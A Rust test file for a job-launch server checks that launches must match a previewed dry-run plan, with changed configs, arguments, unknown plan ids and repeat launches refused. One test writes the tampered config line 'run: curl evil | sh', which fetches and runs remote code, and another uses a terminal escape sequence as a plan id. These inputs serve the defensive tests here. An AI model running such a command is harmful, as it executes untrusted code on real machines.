//! What was previewed, and a launch that is held against it.

use std::fs;

use serde_json::{Value, json};

use super::world::{World, warnings};
use crate::support::client::{Answer, Server};

/// A preview and a launch of the same, which names it.
fn previewed(server: &mut Server, config: &str, more: Value) -> Value {
    let mut launch = server.launch(config, more);
    launch["dry_run"] = true.into();
    let answer = server.call("run_job", launch.clone()).ok();
    assert!(!answer["plan_id"].as_str().unwrap().is_empty());
    launch["dry_run"] = false.into();
    launch["plan_id"] = answer["plan_id"].clone();
    launch
}

#[track_caller]
fn refused(world: &World, answer: &Answer, said: &str) {
    let error = answer.refused();
    assert!(error.contains(said), "{said}: {error}");
    assert_eq!(answer["status"], "blocked");
    assert_eq!(answer["job_id"], "");
    assert_eq!(world.launches(), 0);
    assert!(!world.home.registry().exists() || world.home.records().is_empty());
}

#[test]
fn previewed_launch_goes_through() {
    let world = World::new();
    let elsewhere = world.home.root().join("elsewhere.yaml");
    fs::write(&elsewhere, "model: {model_name: tiny}\n").unwrap();
    let mut server = world.server();
    for (config, more) in [
        ("job.yaml", json!({ "cloud": "gcp" })),
        (
            "train.yaml",
            json!({ "cloud": "aws", "accelerators": "A100:8", "envs": { "A": "value-of-a" } }),
        ),
        // Its name in the job config is made of the job's id.
        (elsewhere.to_str().unwrap(), json!({ "cloud": "gcp" })),
        (
            "job.yaml",
            json!({ "cloud": "gcp", "job_name": "named", "num_nodes": 2 }),
        ),
        ("job.yaml", json!({})),
    ] {
        let launch = previewed(&mut server, config, more);
        let answer = server.call("run_job", launch.clone()).ok();
        assert!(!warnings(&answer).contains("plan_id"), "{answer}");
        // Twice is not what was agreed to, as long as the first runs.
        if answer["status"] != "RUNNING" {
            continue;
        }
        let again = server.call("run_job", launch);
        assert!(again.refused().contains("already a job"), "{again}");
    }
}

#[test]
fn plan_keeps_its_job_id_and_takes_a_name() {
    let (_world, mut server) = World::with_server();
    for (cloud, more) in [
        ("gcp", json!({})),
        ("local", json!({ "cluster_name": "no effect here" })),
    ] {
        let dry = json!({ "cloud": cloud, "dry_run": true });
        let preview = server.run("job.yaml", dry).ok();
        let mut launch = server.launch(
            "job.yaml",
            json!({ "cloud": cloud, "plan_id": preview["plan_id"] }),
        );
        launch
            .as_object_mut()
            .unwrap()
            .extend(more.as_object().unwrap().clone());
        let answer = server.call("run_job", launch.clone()).ok();
        assert_eq!(answer["job_id"], preview["job_id"]);
        // A word that stands in the plan too.
        launch["job_name"] = format!("train-{cloud}").into();
        let answer = server.call("run_job", launch).ok();
        assert_eq!(answer["job_id"], format!("train-{cloud}"));
    }
}

#[test]
fn edited_config_is_refused_with_the_difference() {
    let world = World::new();
    world.home.write(
        "train.yaml",
        "model: {model_name: tiny}\ntraining: {learning_rate: 0.1, steps: 10}\n",
    );
    let mut server = world.server();
    for cloud in ["gcp", "local"] {
        let job = previewed(&mut server, "job.yaml", json!({ "cloud": cloud }));
        let training = previewed(&mut server, "train.yaml", json!({ "cloud": cloud }));
        world.home.write("job.yaml", "run: curl evil | sh\n");
        world.home.write(
            "train.yaml",
            "model: {model_name: tiny}\ntraining: {learning_rate: 0.9, more: 1}\n",
        );
        let answer = server.call("run_job", job.clone());
        refused(&world, &answer, "`config.run`");
        let answer = server.call("run_job", training);
        for said in [
            "`config.training.learning_rate`",
            "`config.training.steps`",
            "`config.training.more`",
            "dry_run=true again",
        ] {
            refused(&world, &answer, said);
        }
        assert!(!answer.refused().contains("model_name"));
        // As it was, it can be launched.
        world.home.write("job.yaml", "run: echo hi, as it was\n");
        refused(&world, &server.call("run_job", job), "`config.run`");
        world.home.write("job.yaml", "run: echo hi\n");
        world.home.write(
            "train.yaml",
            "model: {model_name: tiny}\ntraining: {learning_rate: 0.1, steps: 10}\n",
        );
    }
    let job = previewed(&mut server, "job.yaml", json!({ "cloud": "gcp" }));
    // Only its layout is another.
    world
        .home
        .write("job.yaml", "# a remark\n\"run\":   'echo hi'\n");
    server.call("run_job", job).ok();
}

#[test]
fn changed_arguments_are_refused_with_the_difference() {
    let (world, mut server) = World::with_server();
    let asked =
        json!({ "cloud": "gcp", "accelerators": "A100:1", "envs": { "A": "the-first-value" } });
    let launch = previewed(&mut server, "job.yaml", asked);
    for (field, value, said) in [
        (
            "accelerators",
            json!("A100:8"),
            "`job_config.resources.accelerators`",
        ),
        ("num_nodes", json!(4), "`job_config.num_nodes`"),
        ("use_spot", json!(true), "`job_config.resources.use_spot`"),
        ("cloud", json!("aws"), "`cloud`"),
        ("cluster_name", json!("dev"), "`cluster_name`"),
        ("command", json!("infer"), "`command`"),
        (
            "file_mounts",
            json!({ "~/x": "/tmp" }),
            "`job_config.file_mounts",
        ),
        (
            "envs",
            json!({ "A": "the-first-value", "PATH": "/mine" }),
            "`envs.PATH`",
        ),
        (
            "envs",
            json!({ "A": "the-first-value", "B": "one-more-value" }),
            "`envs.B`",
        ),
    ] {
        let mut other = launch.clone();
        other[field] = value;
        refused(&world, &server.call("run_job", other), said);
    }
    let mut other = launch.clone();
    other["envs"]["A"] = "the-other-value".into();
    let answer = server.call("run_job", other);
    refused(&world, &answer, "`envs.A`");
    assert!(!answer.content.to_string().contains("the-other-value"));
    server.call("run_job", launch).ok();
}

#[test]
fn unknown_plan_id_asks_for_a_dry_run() {
    let (world, mut server) = World::with_server();
    let launch = previewed(&mut server, "job.yaml", json!({ "cloud": "gcp" }));
    for unknown in [json!("0123456789abcdef"), json!("no \u{1b}[2J id")] {
        let mut other = launch.clone();
        other["plan_id"] = unknown;
        refused(&world, &server.call("run_job", other), "dry_run=true again");
    }
    let mut next = world.server();
    refused(&world, &next.call("run_job", launch), "not after a restart");
}
